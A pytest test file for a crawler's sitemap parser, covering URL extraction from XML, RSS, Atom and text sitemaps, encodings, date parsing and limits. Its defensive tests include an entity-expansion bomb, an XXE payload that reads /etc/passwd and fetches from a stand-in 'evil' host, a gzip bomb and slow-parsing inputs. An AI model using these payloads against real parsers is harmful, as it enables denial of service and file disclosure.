"""A sitemap gives the URLs it names and the dates it may be believed, whatever its form; a broken or hostile one gives what could be read, in bounded time and memory."""

import datetime as dt
import gzip
import itertools
import time
import tracemalloc

import pytest

from node import dates, sitemaps
from shared import sites, urls
from tests.conformance import sitemaps as corpora

NOW_MS = round(dt.datetime(2026, 11, 30, 12, tzinfo=dt.UTC).timestamp() * 1000)
HERE = "https://www.example.com/map/sitemap.xml"
OPEN = '<?xml version="1.0" encoding="UTF-8"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'


def read(body: str | bytes, *, url: str = HERE, content_type=None, bytes_max=1_000_000, urls_max=1_000, **more):
    return sitemaps.read(
        body.encode() if isinstance(body, str) else body,
        url=url,
        content_type=content_type,
        now_ms=NOW_MS,
        bytes_max=bytes_max,
        urls_max=urls_max,
        **more,
    )


def listed(body: str | bytes, **more) -> list[str]:
    found = read(body, **more)
    return [entry.url for entry in found.entries + found.children] if found else []


def loc(path: str, more: str = "") -> str:
    return f"<url><loc>https://www.example.com{path}</loc>{more}</url>"


def ms(text: str) -> int:
    return round(dt.datetime.fromisoformat(text).timestamp() * 1000)


@pytest.mark.parametrize("rows", [corpora.crawler_commons, corpora.scrapy], ids=["crawler-commons", "scrapy"])
def test_other_peoples_sitemaps_name_what_they_say(rows):
    judged = list(rows())
    assert len(judged) == (20 if rows is corpora.crawler_commons else 11)
    assert [row for row in judged if not row.passed] == []


@pytest.mark.parametrize(
    ("body", "kind", "wanted"),
    [
        (OPEN + loc("/a") + loc("/b?x=1&amp;y=2") + "</urlset>", "urlset", ["/a", "/b?x=1&y=2"]),
        ("<urlset><url><loc><![CDATA[https://www.example.com/a?b&c]]></loc></url></urlset>", "urlset", ["/a?b&c"]),
        ("<urlset><url><loc>https://www.example.com/a<!-- x -->b</loc></url></urlset>", "urlset", ["/ab"]),
        ("<urlset>" + loc("/caf&#233;&#x21;") + "</urlset>", "urlset", ["/caf%C3%A9!"]),
        ("<urlset>" + loc("/a?b=1&c=2&copy=3") + "</urlset>", "urlset", ["/a?b=1&c=2&copy=3"]),
        ("<urlset>" + loc("/a") + loc("/a#x") + "</urlset>", "urlset", ["/a"]),
        ("<urlset><url><loc>../b</loc></url><url><loc>/c</loc></url></urlset>", "urlset", ["/b", "/c"]),
        ("<URLSET><URL><LOC>https://www.example.com/a</LOC></URL></URLSET>", "urlset", ["/a"]),
        ("<urlset><url><loc><url><![CDATA[https://www.example.com/a]]></url></loc></url></urlset>", "urlset", ["/a"]),
        (
            (
                "<urlset><url><image:image><image:loc>https://www.example.com/i.png</image:loc></image:image>"
                "<loc>https://www.example.com/a</loc></url></urlset>"
            ),
            "urlset",
            ["/a"],
        ),
        ("<s:urlset><s:url><s:loc>https://www.example.com/a</s:loc></s:url></s:urlset>", "urlset", ["/a"]),
        ("<urlset x=\"a>b\"><url><loc x='>'>https://www.example.com/a</loc></url></urlset>", "urlset", ["/a"]),
        (
            (
                "<sitemapindex><sitemap><loc>https://www.example.com/1.xml.gz</loc></sitemap>"
                "<sitemap>https://www.example.com/2.xml</sitemap></sitemapindex>"
            ),
            "index",
            ["/1.xml.gz", "/2.xml"],
        ),
        (
            (
                "<rss><channel><link>https://www.example.com/</link><atom:link href='/feed'/><image><url>/i.png</url>"
                "<link>/</link></image><item><title>x</title><link>\n https://www.example.com/a </link></item>"
                "<item><description><![CDATA[<item><link>/no</link></item>]]></description><link>/b</link></item>"
                "<item><guid>https://www.example.com/c</guid></item><item><guid>4711</guid></item></channel></rss>"
            ),
            "rss",
            ["/a", "/b", "/c"],
        ),
        (
            (
                "<rdf:RDF xmlns='http://purl.org/rss/1.0/'><channel><link>/pub</link></channel>"
                "<item rdf:about='/x'><link>/a</link><dc:date>2026-01-01</dc:date></item></rdf:RDF>"
            ),
            "rss",
            ["/a"],
        ),
        (
            (
                "<feed xml:base='https://www.example.com/blog/'><link href='/self' rel='self'/><entry><link rel='edit'"
                " href='/no'/><link href='a'/><link href='/no'/></entry><entry><source><link href='/no'/></source>"
                "<link rel=\"alternate\" href='b?x&amp;y'/></entry></feed>"
            ),
            "atom",
            ["/blog/a", "/blog/b?x&y"],
        ),
        ("https://www.example.com/a\r\n  https://www.example.com/b \n\nno\n/no\nftp://x/\n", "text", ["/a", "/b"]),
        ("https://www.example.com/a\rhttps://www.example.com/b", "text", ["/a", "/b"]),
    ],
)
def test_every_form_names_its_urls(body, kind, wanted):
    found = read(body)
    assert found.kind == kind
    assert [urls.path_of(entry.url) for entry in found.entries + found.children] == wanted
    assert found.fault is None


@pytest.mark.parametrize(
    ("mark", "codec", "declared"),
    [
        (b"\xef\xbb\xbf", "utf-8", "UTF-8"),
        (b"\xff\xfe", "utf-16-le", "UTF-16"),
        (b"\xfe\xff", "utf-16-be", "UTF-16"),
        (b"", "utf-16-le", "UTF-16"),
        (b"", "utf-16-be", "UTF-16"),
        (b"", "latin-1", "ISO-8859-1"),
        (b"", "cp1251", "windows-1251"),
        (b"", "shift_jis", "Shift_JIS"),
        (b"", "iso2022_jp", "ISO-2022-JP"),
        (b"", "gb18030", "GB18030"),
    ],
)
def test_a_sitemap_is_read_in_its_own_encoding(mark, codec, declared):
    letter = {"latin-1": "é", "cp1251": "ж", "shift_jis": "表", "iso2022_jp": "表", "gb18030": "表"}.get(codec, "é")
    text = f'<?xml version="1.0" encoding="{declared}"?><urlset><url><loc>/{letter}</loc></url></urlset>'
    body = mark + text.encode(codec)
    wanted = [urls.canonical(f"/{letter}", HERE)]
    assert listed(body) == wanted
    assert listed(gzip.compress(body)) == wanted
    assert sitemaps.looks_like(body, "text/plain")
    assert sitemaps.looks_like(gzip.compress(body), None)


def test_the_header_names_the_encoding_where_the_body_does_not():
    body = "<urlset><url><loc>/é</loc></url></urlset>".encode("latin-1")
    assert listed(body, content_type="text/xml; charset=iso-8859-1") == ["https://www.example.com/%C3%A9"]


@pytest.mark.parametrize(
    "body",
    ["<!doctype html><html><body><a href=/a>x</a></body></html>", "", "plain words", "<url>&k;", "{}", "<html><rss/>"],
)
def test_what_is_no_sitemap_is_none(body):
    assert read(body) is None
    assert not sitemaps.looks_like(body.encode(), "application/xml")


def test_plain_text_is_a_sitemap_only_where_somebody_said_so():
    body = "https://www.example.com/a\n"
    assert read(body, declared=False) is None
    assert not sitemaps.looks_like(body.encode(), "text/plain")
    assert read(OPEN + loc("/a") + "</urlset>", declared=False).kind == "urlset"


@pytest.mark.parametrize(
    ("date", "moment"),
    [
        ("2026-10-05T04:03:02Z", "2026-10-05T04:03:02+00:00"),
        ("2026-10-05T04:03:02.789+01:00", "2026-10-05T03:03:02+00:00"),
        ("2026-10-05T04:03+0530", "2026-10-04T22:33:00+00:00"),
        ("2026-10-05 04:03:02", "2026-10-05T04:03:02+00:00"),
        ("2026-10-05 04:03:02 UTC", "2026-10-05T04:03:02+00:00"),
        ("2026-10-05", "2026-10-06T00:00:00+00:00"),
        ("2026-10", "2026-11-01T00:00:00+00:00"),
        ("2025", "2026-01-01T00:00:00+00:00"),
        ("2026-11-30", "2026-11-30T12:00:00+00:00"),
        ("2026", "2026-11-30T12:00:00+00:00"),
        ("Thu, 05 Jan 2017 13:34:51 +0100", "2017-01-05T12:34:51+00:00"),
        ("5 Jan 17 13:34 EST", "2017-01-05T18:34:00+00:00"),
        ("Thursday, 05-Jan-17 13:34:51 GMT", "2017-01-05T13:34:51+00:00"),
        ("05 January 1999 13:34:60 PDT", "1999-01-05T20:34:59+00:00"),
    ],
)
def test_a_date_means_its_moment_and_a_day_its_end_at_most_now(date, moment):
    assert dates.milliseconds(f" {date}\n", now_ms=NOW_MS) == ms(moment)


@pytest.mark.parametrize(
    "date",
    [
        *("", "yesterday", "2026-11-30T12:00:01Z", "2026-12-01", "2027", "9999-12-31", "0000-00-00", "1970-01-01"),
        *("2026-02-30", "2026-13-01", "2026-10-05T25:00:00Z", "05 Jan 17 13:34:55", "05 Foo 2017 13:34:55 GMT"),
        *(
            "05 Jan 2017 13:34:55 XYZ",
            "2026-10-05T04:03:02+99:99Z",
            "٢٠٢٦-١٠-٠٥",
            "1" * 100_000,
            "0001-01-01T00:00+23:59",
        ),
    ],
)
def test_what_is_no_date_or_still_to_come_is_none(date):
    assert dates.milliseconds(date, now_ms=NOW_MS) == 0


def test_another_host_is_a_link_like_any_and_its_date_is_not_believed():
    """Case sitemap-foreign-host: one site must not push work onto another."""
    day = "<lastmod>2026-10-05T00:00:00Z</lastmod>"
    body = f"<urlset>{loc('/a', day)}<url><loc>https://b.example/p</loc>{day}</url><url><loc>http://example.com/c</loc>{day}</url></urlset>"
    moment = ms("2026-10-05T00:00:00+00:00")
    assert read(body).entries == (
        sitemaps.Entry("https://www.example.com/a", moment, True),
        sitemaps.Entry("https://b.example/p", 0, False),
        sitemaps.Entry("http://example.com/c", 0, False),
    )
    of_site = read(body, site_of=sites.Sites().site_of).entries
    assert [entry.changed_ms for entry in of_site] == [moment, 0, moment]
    index = f"<sitemapindex><sitemap><loc>https://b.example/s.xml</loc>{day}</sitemap></sitemapindex>"
    assert read(index).children == (sitemaps.Entry("https://b.example/s.xml", 0, False),)


def test_dates_that_are_the_time_of_writing_say_nothing():
    """A generator that stamps every entry with now would have the whole site visited again."""
    stamp = "<lastmod>2026-11-30T11:59:5{}Z</lastmod>"
    stamped = read("<urlset>" + "".join(loc(f"/{n}", stamp.format(n % 10)) for n in range(30)) + "</urlset>")
    assert stamped.stamped
    assert {entry.changed_ms for entry in stamped.entries} == {0}
    few = read("<urlset>" + "".join(loc(f"/{n}", stamp.format(n)) for n in range(9)) + "</urlset>")
    assert not few.stamped
    assert all(entry.changed_ms for entry in few.entries)
    old = "<lastmod>2026-11-01</lastmod>"
    released = read("<urlset>" + "".join(loc(f"/{n}", old) for n in range(30)) + "</urlset>")
    assert not released.stamped, "a release a month ago changed all pages at once"
    spread = "".join(loc(f"/{n}", f"<lastmod>2026-11-30T0{n % 10}:00:00Z</lastmod>") for n in range(30))
    assert not read(f"<urlset>{spread}</urlset>").stamped


@pytest.mark.parametrize(
    ("body", "wanted", "fault"),
    [
        (OPEN + loc("/a") + "<url><loc>https://www.example.com/b", ["/a"], "markup"),
        (OPEN + loc("/a") + "<url><loc>https://www.example.com/b</lo", ["/a", "/b"], "markup"),
        (OPEN + loc("/a") + "<url><loc>https://www.example.com/b</loc><lastmod>2026-1", ["/a", "/b"], "markup"),
        (OPEN + loc("/a") + "<url></oops>" + loc("/b") + "</urlset>", ["/a", "/b"], None),
        (OPEN + "<url><loc>https://www.example.com/a</loc>" + loc("/b") + "</urlset>", ["/a", "/b"], None),
        (OPEN + loc("/a") + "<!-- " + loc("/b"), ["/a"], "markup"),
        (OPEN + loc("/a") + "<![CDATA[ " + loc("/b"), ["/a"], "markup"),
        (OPEN + loc("/a") + loc("/\x00\x01x") + loc("/b") + "</urlset>", ["/a", "/%00%01x", "/b"], None),
        (OPEN + loc("/a") + "<url><loc>http://</loc></url>" + loc("/b") + "</urlset>", ["/a", "/b"], None),
        ("\n\n" + OPEN + loc("/a") + "</urlset>", ["/a"], None),
    ],
)
def test_what_was_read_before_a_fault_is_kept_and_a_cut_url_is_not_invented(body, wanted, fault):
    found = read(body)
    assert [urls.path_of(entry.url) for entry in found.entries] == wanted
    assert found.fault == fault


def test_a_url_that_cannot_be_is_counted_and_the_others_stay():
    found = read(
        OPEN + loc("/a") + "<url><loc>mailto:x@example.com</loc></url><url><loc>http://a b/</loc></url></urlset>"
    )
    assert (len(found.entries), found.bad_urls, found.fault) == (1, 2, None)


def test_limits_cut_and_say_so():
    many = OPEN + "".join(loc(f"/{n}") for n in range(30)) + "</urlset>"
    at_most = read(many, urls_max=30)
    assert (len(at_most.entries), at_most.fault) == (30, None)
    cut = read(many, urls_max=10)
    assert ([entry.url for entry in cut.entries], cut.fault) == (
        [f"https://www.example.com/{n}" for n in range(10)],
        "urls",
    )
    short = read(many, bytes_max=len(OPEN) + 100)
    assert (len(short.entries), short.fault) == (2, "size")
    zipped = read(gzip.compress(many.encode()), bytes_max=len(OPEN) + 100)
    assert (len(zipped.entries), zipped.fault) == (2, "size")
    half = gzip.compress(many.encode(), mtime=0)
    assert read(half[: len(half) // 2]).fault == "encoding"
    text = read("https://www.example.com/a\nhttps://www.example.com/bcdef", bytes_max=40)
    assert ([entry.url for entry in text.entries], text.fault) == (["https://www.example.com/a"], "size")


NAMES = ["lol", *(f"lol{n}" for n in range(1, 13))]
BOMB = '<!DOCTYPE lolz [<!ENTITY lol "lol">' + "".join(
    '<!ENTITY {} "{}">'.format(name, f"&{before};" * 10) for before, name in itertools.pairwise(NAMES)
)
BOMB += "]>"


def test_entities_are_never_expanded_and_the_rest_is_read():
    """Case sitemap-entity-bomb; and a file that a document asks to be put in its place."""
    tracemalloc.start()
    found = read(f"{BOMB}<urlset>{loc('/&lol12;')}{loc('/b')}</urlset>")
    peak_bytes = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert [entry.url for entry in found.entries] == ["https://www.example.com/", "https://www.example.com/b"]
    assert peak_bytes < 200_000
    outside = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://evil/">%p;]>'
    assert listed(f"{outside}<urlset>{loc('/a&xxe;')}</urlset>") == ["https://www.example.com/a"]
    assert listed('<!DOCTYPE urlset SYSTEM "x.dtd"><urlset>' + loc("/a") + "</urlset>") == ["https://www.example.com/a"]
    assert listed(f"<!DOCTYPE x [<!ENTITY u '{loc('/no')}'>]><urlset>{loc('/a')}</urlset>") == [
        "https://www.example.com/a"
    ]


def test_a_gzip_bomb_costs_the_limit():
    bomb = gzip.compress(b"<urlset>" + b" " * 60_000_000, mtime=0)
    tracemalloc.start()
    found = read(bomb, bytes_max=1_000_000)
    peak_bytes = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert found.fault == "size"
    assert peak_bytes < 6_000_000


def test_the_largest_that_the_protocol_allows_is_read_in_seconds():
    entries = "".join(loc(f"/a/page-{n}?x&amp;y", "<lastmod>2026-01-02T03:04:05Z</lastmod>") for n in range(50_000))
    body = f"{OPEN}{entries}</urlset>".encode()
    began_s = time.process_time()
    found = read(body, bytes_max=50 * 1024 * 1024, urls_max=50_000)
    assert time.process_time() - began_s < 8  # 0.7 s on an idle core
    assert (len(found.entries), found.fault) == (50_000, None)


@pytest.mark.parametrize("first", ["<urlset>", "<urlset><url><loc>", "<!DOCTYPE [", "<rss>", "<feed>", ""])
@pytest.mark.parametrize(
    "piece",
    [
        *("<url>", "<loc>", "<loc", '<link "', "<loc '\"", "<!--", "<![CDATA[", "<?", "&amp;", "</url>", "<!DOCTYPE ["),
        *("]>", "<loc><![CDATA[x]]>", "x:", "<x:", "<loc x='" + "a" * 50, "<entry xml:base='", "https://a/ ", "\r\n"),
    ],
)
def test_hostile_repeats_cost_time_in_proportion(first, piece):
    body = (first + piece * (300_000 // len(piece))).encode()
    began_s = time.process_time()
    read(body)
    sitemaps.looks_like(body)
    assert time.process_time() - began_s < 1.5


def test_steps_are_bounded_even_where_nothing_is_named():
    body = b"<urlset>" + b"<url>" * 2_000_000
    began_s = time.process_time()
    found = read(body, bytes_max=len(body), urls_max=1_000)
    assert found.fault == "urls"
    assert time.process_time() - began_s < 2
